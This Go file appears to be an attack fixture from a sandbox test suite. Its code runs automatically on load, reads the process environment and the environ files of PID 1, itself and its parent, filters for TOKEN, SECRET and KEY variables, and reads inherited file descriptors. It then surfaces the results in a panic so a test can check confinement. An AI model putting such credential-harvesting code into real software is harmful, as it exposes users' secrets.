// The snoop: everything of the instructor's it can reach (its own
// environment, that of the sandbox's first process and of its parent, and
// every descriptor it inherited) is put where the report shows it: on one
// line (a crash's message shows the panic's first), short (the variables
// that look like secrets, the first bytes of a file), in the panic of a
// goroutine, which crashes the test binary (TestAttacks/Snoop and
// TestAttacksUnconfined/Snoop). It goes beside the untouched stub.
package echo

import (
	"fmt"
	"io"
	"os"
	"strings"
)

var (
	found strings.Builder
	files []*os.File
)

func init() {
	fmt.Fprintf(&found, "env: %q; ", os.Environ())
	for _, p := range []string{"/proc/1/environ", "/proc/self/environ", fmt.Sprintf("/proc/%d/environ", os.Getppid())} {
		if data, err := os.ReadFile(p); err == nil {
			fmt.Fprintf(&found, "%s: %q; ", p, secrets(strings.Split(string(data), "\x00")))
		}
	}
	for fd := 3; fd < 1024; fd++ {
		// Only regular files: reading the runtime's own descriptors (its
		// epoll, its wakeup pipe) would crash the binary before it shows
		// anything. Each File stays referenced, so that no finalizer
		// closes a descriptor the runtime uses. ReadAt leaves the offset,
		// which the descriptor shares with every process that inherited
		// it: each run of the tests reads the file from its start.
		f := os.NewFile(uintptr(fd), "")
		files = append(files, f)
		if fi, err := f.Stat(); err != nil || !fi.Mode().IsRegular() {
			continue
		}
		buf := make([]byte, 4096)
		if n, err := f.ReadAt(buf, 0); n > 0 && (err == nil || err == io.EOF) {
			fmt.Fprintf(&found, "descriptor %d: %.200q; ", fd, buf[:n])
		}
	}
	fmt.Println(found.String())
	go panic(found.String())
}

// secrets are the variables of env whose names say they hold one.
func secrets(env []string) []string {
	var out []string
	for _, kv := range env {
		name, _, _ := strings.Cut(kv, "=")
		if strings.Contains(name, "TOKEN") || strings.Contains(name, "SECRET") || strings.Contains(name, "KEY") {
			out = append(out, kv)
		}
	}
	return out
}
